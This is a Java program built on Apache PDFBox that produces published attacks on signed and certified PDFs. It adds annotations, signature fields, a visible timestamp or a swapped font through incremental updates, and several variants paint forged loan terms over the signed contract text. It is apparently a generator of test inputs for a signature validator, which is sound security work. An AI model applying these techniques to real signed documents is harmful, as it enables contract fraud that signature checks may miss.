// Makes the published attacks on signed and certified PDFs with Apache PDFBox 2 (Debian libpdfbox2-java), a tool
// other than the product: each appends one incremental update (PDDocument.saveIncremental) to the input.
// Usage: java -cp pdfbox2.jar:fontbox2.jar:commons-logging.jar PdfBoxAttacks.java ATTACK IN.pdf OUT.pdf
import java.io.File;
import java.io.FileOutputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSFloat;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.digitalsignature.PDSignature;

public class PdfBoxAttacks {
    public static void main(String[] args) throws Exception {
        String attack = args[0];
        try (PDDocument doc = PDDocument.load(new File(args[1]))) {
            PDPage page = doc.getPage(0);
            COSDictionary catalog = doc.getDocumentCatalog().getCOSObject();
            catalog.setNeedToBeUpdated(true);
            switch (attack) {
                // Evil Annotation: a FreeText annotation whose appearance paints new terms over the contract text.
                case "free-text" -> addAnnotation(doc, page, annotation(doc, "FreeText", rect(60, 745, 420, 780), 4, "Loan amount: 9,999,999 yuan"));
                // An annotation that shows nothing (Hidden flag, no appearance): any subtype counts, visible or not, once sealed.
                case "hidden-square" -> {
                    COSDictionary square = annotation(doc, "Square", rect(60, 745, 420, 780), 2, null);
                    addAnnotation(doc, page, square);
                }
                // Sneaky Signature, unsigned: a new signature field whose visible appearance paints over the page.
                case "visible-signature-field" -> addSignatureField(doc, page, signatureField(doc, page, "Witness", rect(60, 745, 420, 780), "Loan amount: 9,999,999 yuan"));
                // A new, empty signature field that draws nothing (zero-size rectangle).
                case "invisible-signature-field" -> addSignatureField(doc, page, signatureField(doc, page, "Witness", rect(0, 0, 0, 0), null));
                // Sneaky Signature, signed: PDFBox signs a new field, whose widget is then given a visible appearance.
                case "signed-visible-signature" -> {
                    signVisible(doc, page, args[2], false);
                    return;
                }
                // A document timestamp (validation data, allowed even after the seal) given a visible widget.
                case "visible-document-timestamp" -> {
                    signVisible(doc, page, args[2], true);
                    return;
                }
                // A change hidden in the resources of an existing page: its font replaced (glyphs drawn differently).
                case "page-font" -> {
                    COSDictionary pageDict = page.getCOSObject();
                    markPathTo(page);
                    COSDictionary resources = (COSDictionary) pageDict.getDictionaryObject(COSName.RESOURCES);
                    resources.setNeedToBeUpdated(true);
                    COSDictionary fonts = (COSDictionary) resources.getDictionaryObject(COSName.FONT);
                    fonts.setNeedToBeUpdated(true);
                    COSDictionary font = (COSDictionary) fonts.getDictionaryObject(COSName.getPDFName("F1"));
                    font.setItem(COSName.BASE_FONT, COSName.getPDFName("Courier"));
                    font.setNeedToBeUpdated(true);
                }
                default -> throw new IllegalArgumentException("unknown attack " + attack);
            }
            try (OutputStream out = new FileOutputStream(args[2])) {
                doc.saveIncremental(out);
            }
        }
    }

    private static COSArray rect(float x1, float y1, float x2, float y2) {
        COSArray a = new COSArray();
        for (float v : new float[] { x1, y1, x2, y2 }) {
            a.add(new COSFloat(v));
        }
        return a;
    }

    /// A form XObject drawing one line of text in Helvetica over a white box (hiding what is under it).
    private static COSStream appearance(PDDocument doc, COSArray rect, String text) throws Exception {
        float w = ((COSFloat) rect.get(2)).floatValue() - ((COSFloat) rect.get(0)).floatValue();
        float h = ((COSFloat) rect.get(3)).floatValue() - ((COSFloat) rect.get(1)).floatValue();
        COSStream stream = doc.getDocument().createCOSStream();
        stream.setItem(COSName.TYPE, COSName.XOBJECT);
        stream.setItem(COSName.SUBTYPE, COSName.FORM);
        stream.setItem(COSName.BBOX, rect(0, 0, w, h));
        COSDictionary font = new COSDictionary();
        font.setItem(COSName.TYPE, COSName.FONT);
        font.setItem(COSName.SUBTYPE, COSName.TYPE1);
        font.setItem(COSName.BASE_FONT, COSName.getPDFName("Helvetica"));
        COSDictionary fonts = new COSDictionary();
        fonts.setItem(COSName.getPDFName("Helv"), font);
        COSDictionary resources = new COSDictionary();
        resources.setItem(COSName.FONT, fonts);
        stream.setItem(COSName.RESOURCES, resources);
        String content = "1 g 0 0 " + w + " " + h + " re f 0 g BT /Helv 12 Tf 4 10 Td (" + text + ") Tj ET";
        try (OutputStream out = stream.createOutputStream()) {
            out.write(content.getBytes(StandardCharsets.US_ASCII));
        }
        return stream;
    }

    private static COSDictionary annotation(PDDocument doc, String subtype, COSArray rect, int flags, String text) throws Exception {
        COSDictionary annot = new COSDictionary();
        annot.setItem(COSName.TYPE, COSName.ANNOT);
        annot.setItem(COSName.SUBTYPE, COSName.getPDFName(subtype));
        annot.setItem(COSName.RECT, rect);
        annot.setInt(COSName.F, flags);
        if (text != null) {
            annot.setString(COSName.CONTENTS, text);
            annot.setString(COSName.DA, "/Helv 12 Tf 0 g");
            COSDictionary ap = new COSDictionary();
            ap.setItem(COSName.N, appearance(doc, rect, text));
            annot.setItem(COSName.AP, ap);
        }
        return annot;
    }

    private static COSDictionary signatureField(PDDocument doc, PDPage page, String name, COSArray rect, String text) throws Exception {
        COSDictionary field = new COSDictionary();
        field.setItem(COSName.TYPE, COSName.ANNOT);
        field.setItem(COSName.SUBTYPE, COSName.WIDGET);
        field.setItem(COSName.FT, COSName.SIG);
        field.setString(COSName.T, name);
        field.setItem(COSName.RECT, rect);
        field.setInt(COSName.F, 4);
        field.setItem(COSName.P, page.getCOSObject());
        if (text != null) {
            COSDictionary ap = new COSDictionary();
            ap.setItem(COSName.N, appearance(doc, rect, text));
            field.setItem(COSName.AP, ap);
        }
        return field;
    }

    /// PDFBox 2 writes an incremental update by walking from the catalog through updated objects only: the page tree
    /// nodes above the page are marked too (written unchanged) so that the changed page is reached.
    private static void markPathTo(PDPage page) {
        COSDictionary node = page.getCOSObject();
        for (int depth = 0; node != null && depth < 64; depth++) {
            node.setNeedToBeUpdated(true);
            COSBase kids = node.getDictionaryObject(COSName.KIDS);
            if (kids instanceof COSArray a) {
                a.setNeedToBeUpdated(true);
            }
            node = (COSDictionary) node.getDictionaryObject(COSName.PARENT);
        }
    }

    private static void addAnnotation(PDDocument doc, PDPage page, COSDictionary annot) {
        COSDictionary pageDict = page.getCOSObject();
        markPathTo(page);
        COSBase raw = pageDict.getItem(COSName.ANNOTS);
        COSArray annots = (COSArray) pageDict.getDictionaryObject(COSName.ANNOTS);
        if (annots == null) {
            annots = new COSArray();
            pageDict.setItem(COSName.ANNOTS, annots);
        }
        annots.add(annot);
        annots.setNeedToBeUpdated(true);
        annot.setNeedToBeUpdated(true);
    }

    private static void addSignatureField(PDDocument doc, PDPage page, COSDictionary field) {
        addAnnotation(doc, page, field);
        COSDictionary form = (COSDictionary) doc.getDocumentCatalog().getCOSObject().getDictionaryObject(COSName.ACRO_FORM);
        form.setNeedToBeUpdated(true);
        COSArray fields = (COSArray) form.getDictionaryObject(COSName.FIELDS);
        fields.add(field);
        fields.setNeedToBeUpdated(true);
    }

    private static void signVisible(PDDocument doc, PDPage page, String output, boolean documentTimestamp) throws Exception {
        PDSignature signature = new PDSignature();
        signature.setFilter(PDSignature.FILTER_ADOBE_PPKLITE);
        if (documentTimestamp) {
            signature.setType(COSName.DOC_TIME_STAMP);
            signature.setSubFilter(COSName.getPDFName("ETSI.RFC3161"));
        } else {
            signature.setSubFilter(PDSignature.SUBFILTER_ADBE_PKCS7_DETACHED);
        }
        signature.setName("Attacker");
        signature.setSignDate(java.util.Calendar.getInstance());
        // The attacker's signature value: what it holds does not matter to the question of what the page shows.
        doc.addSignature(signature, (InputStream content) -> new byte[64]);
        COSDictionary form = (COSDictionary) doc.getDocumentCatalog().getCOSObject().getDictionaryObject(COSName.ACRO_FORM);
        COSArray fields = (COSArray) form.getDictionaryObject(COSName.FIELDS);
        COSDictionary field = null;
        for (int i = 0; i < fields.size(); i++) {
            COSBase f = fields.getObject(i);
            if (f instanceof COSDictionary d && d.getDictionaryObject(COSName.V) == signature.getCOSObject()) {
                field = d;
            }
        }
        COSArray rect = rect(60, 745, 420, 780);
        field.setItem(COSName.RECT, rect);
        COSDictionary ap = new COSDictionary();
        ap.setItem(COSName.N, appearance(doc, rect, "Loan amount: 9,999,999 yuan"));
        field.setItem(COSName.AP, ap);
        field.setNeedToBeUpdated(true);
        try (OutputStream out = new FileOutputStream(output)) {
            doc.saveIncremental(out);
        }
    }
}
